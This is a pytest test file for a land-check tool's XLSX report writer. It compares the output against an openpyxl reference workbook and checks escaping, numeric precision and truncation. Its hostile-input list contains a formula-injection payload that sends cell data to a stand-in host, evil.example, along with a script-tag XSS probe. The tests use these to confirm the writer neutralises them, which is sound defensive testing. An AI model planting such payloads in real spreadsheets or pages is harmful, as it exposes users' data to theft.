"""report.xlsx written as XML reads back as the openpyxl workbook it replaced, cell for cell.

The reference is openpyxl's write-only builder that wrote report.xlsx before
(tests/xlsx_reference.py); both workbooks are read with openpyxl and compared:
sheet names, values and their types, number formats, fonts, fills, alignment,
quote prefixes, column widths, frozen panes and autofilters. Numbers are the
tables' own floats (the reference wrote them with 16 significant digits).
"""

from __future__ import annotations

import math
import re
import zipfile

import openpyxl
import pytest
from common import frame, sites, square
from libreoffice import calc_missing, convert
from openpyxl.utils.escape import unescape
from report_case import result
from xlsx_compare import workbook_differences
from xlsx_reference import build_workbook

import landcheck
from landcheck.report.options import ReportOptions
from landcheck.report.xlsx import (
    FILENAME,
    MAX_CELL_CHARACTERS,
    write_workbook,
    write_xlsx,
    xlsx_text,
)
from landcheck.tables import report_tables


@pytest.fixture(scope="module")
def case():
    return result()


@pytest.fixture(scope="module")
def candidates(sample_layers):
    gpkg = sample_layers["land_use"].rpartition(":")[0]
    return landcheck.check(f"{gpkg}:candidates", layers=sample_layers)


def both(res, folder, lang):
    """The workbook written now and the one openpyxl's builder writes, from the same tables."""
    options = ReportOptions(lang=lang)
    folder.mkdir()
    new = write_xlsx(res, str(folder), options)
    old = folder / "reference.xlsx"
    build_workbook(res, lang=lang, tables=options.tables(res)).save(old)
    return old, new


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_case_reads_as_the_openpyxl_workbook(case, tmp_path, lang):
    old, new = both(case, tmp_path / "case", lang)
    assert workbook_differences(old, new) == []
    book = openpyxl.load_workbook(new)
    assert len(book.sheetnames) == len(report_tables(case, lang)) >= 10
    book.close()


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_sample_candidates_read_as_the_openpyxl_workbook(candidates, tmp_path, lang):
    old, new = both(candidates, tmp_path / "candidates", lang)
    assert workbook_differences(old, new) == []


def test_the_comparison_sees_a_changed_cell_a_format_and_a_width(case, tmp_path):
    old, new = both(case, tmp_path / "changed", "zh")
    changed = tmp_path / "changed.xlsx"
    with zipfile.ZipFile(new) as source, zipfile.ZipFile(changed, "w") as target:
        for name in source.namelist():
            data = source.read(name).decode("utf-8")
            if name == "xl/worksheets/sheet3.xml":  # 占用地类面积
                data = re.sub(r'(<c r="E3"[^>]*><v>)([^<]+)', r"\g<1>1\2", data)
                data = re.sub(r'<c r="F3" s="\d+"', '<c r="F3"', data)
                data = re.sub(r'(<col min="2" max="2" width=")(\d+)', r"\g<1>99", data)
            target.writestr(name, data)
    found = workbook_differences(old, changed)
    assert [line.split(":")[0] for line in found] == [
        "占用地类面积",
        "占用地类面积!E3",
        "占用地类面积!F3",
    ]
    assert "widths" in found[0] and "'B': 99" in found[0]


def test_numbers_are_the_tables_floats_exactly(case, tmp_path):
    path = write_workbook(case, tmp_path / FILENAME)
    table = report_tables(case, "zh")["land_classes"]
    book = openpyxl.load_workbook(path)
    sheet = book["占用地类面积"]
    headers = [cell.value for cell in sheet[2]]
    exact = headers.index("平面面积（平方米，未修约）")
    rounded = headers.index("面积（公顷）")
    rows = list(sheet.iter_rows(min_row=3, max_row=2 + len(table.frame)))
    assert [row[exact].value for row in rows] == table.frame["planar_m2"].tolist()
    assert [row[rounded].value for row in rows] == table.rounded["ha"].tolist()
    assert {row[exact].data_type for row in rows} == {"n"}
    book.close()


HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "-1+2",
    "a < b && c > d",
    "<script>alert(1)</script>",
    "]]><x/>",
    "".join(chr(c) for c in range(32)) + "after the controls",
    "\ufffe and \uffff",
    "first line\n  second line, indented",
    "长" * 20_000,
]
"""Texts XML must escape or cannot carry, formula starts, and a very long text."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Sites named by the hostile texts; farmland ids and names the same texts."""
    count = len(HOSTILE)
    site = sites(*[square(300 * i, 0, 200, 100) for i in range(count)], name=HOSTILE)
    farmland = frame(
        [
            {"BSM": text, "DLBM": "0101", "DLMC": text, "geometry": square(300 * i, 0, 100)}
            for i, text in enumerate(HOSTILE)
        ]
    )
    res = landcheck.check(site, layers={"farmland": farmland}, area_method="planar")
    folder = tmp_path_factory.mktemp("hostile")
    path = write_workbook(res, folder / FILENAME)
    book = openpyxl.load_workbook(path)
    yield path, book
    book.close()


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_hostile_text_reads_back_as_that_text(hostile, text):
    _, book = hostile
    names = [row[1] for row in book["项目用地基本情况"].iter_rows(min_row=3)]
    cell = next(c for c in names if c.value is not None and unescape(c.value) == text)
    assert cell.data_type == "s"
    assert cell.value == xlsx_text(text)
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_hostile_texts_make_no_formula_and_well_formed_xml(hostile):
    path, book = hostile
    with zipfile.ZipFile(path) as archive:
        xml = "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    assert re.search(r"<f[\s>/]", xml) is None
    assert "<script>" not in xml and "&lt;script&gt;" in xml
    assert "]]>" not in xml and "]]&gt;" in xml
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", xml)
    sheet = book["永久基本农田"]
    column = [c.value for c in sheet[2]].index("平面面积（公顷）")
    cells = [row[column] for row in sheet.iter_rows(min_row=3) if row[column].value is not None]
    assert {c.data_type for c in cells} == {"n"}
    assert {c.value for c in cells} == {1.0} and len(cells) >= len(HOSTILE)  # 1 ha each


def test_a_text_beyond_excels_cell_limit_is_cut_and_says_so(tmp_path):
    name = "长" * 40_000 + "尾"
    site = sites(square(0, 0, 200, 100), name=[name])
    res = landcheck.check(
        site,
        layers={"farmland": frame([{"DLBM": "0101", "geometry": square(0, 0, 100)}])},
        area_method="planar",
    )
    book = openpyxl.load_workbook(write_workbook(res, tmp_path / FILENAME))
    cell = next(book["项目用地基本情况"].iter_rows(min_row=3))[1]
    assert len(cell.value) == MAX_CELL_CHARACTERS == 32_767
    assert cell.value.startswith("长" * 32_000)
    assert cell.value.endswith("…（全文 40,001 字，见 findings.json / full text: findings.json）")
    assert res.sites["name"].iloc[0] == name  # the result (and findings.json) keeps it whole
    book.close()


# ------------------------------------------------------------- LibreOffice
@pytest.mark.skipif(
    calc_missing(),
    reason="LibreOffice Calc is not installed: `make libreoffice` installs Debian's "
    "libreoffice-calc-nogui when run as root",
)
def test_libreoffice_reads_the_workbook_as_written(case, tmp_path):
    path = write_workbook(case, tmp_path / FILENAME)
    converted = convert(path, "xlsx", tmp_path / "libreoffice", tmp_path)
    ours, theirs = openpyxl.load_workbook(path), openpyxl.load_workbook(converted)
    assert theirs.sheetnames == ours.sheetnames
    compared = 0
    for name in ours.sheetnames:
        # (LibreOffice run headless writes neither frozen panes nor our column ranges)
        assert theirs[name].auto_filter.ref == ours[name].auto_filter.ref, name
        for mine, read in zip(ours[name].iter_rows(), theirs[name].iter_rows(), strict=False):
            for a, b in zip(mine, read, strict=False):
                if isinstance(a.value, float):
                    assert math.isclose(b.value, a.value, rel_tol=1e-14), a.coordinate
                    assert b.number_format == a.number_format, a.coordinate
                elif a.value:
                    assert b.value == a.value, a.coordinate
                compared += 1
    assert compared > 500
    ours.close()
    theirs.close()
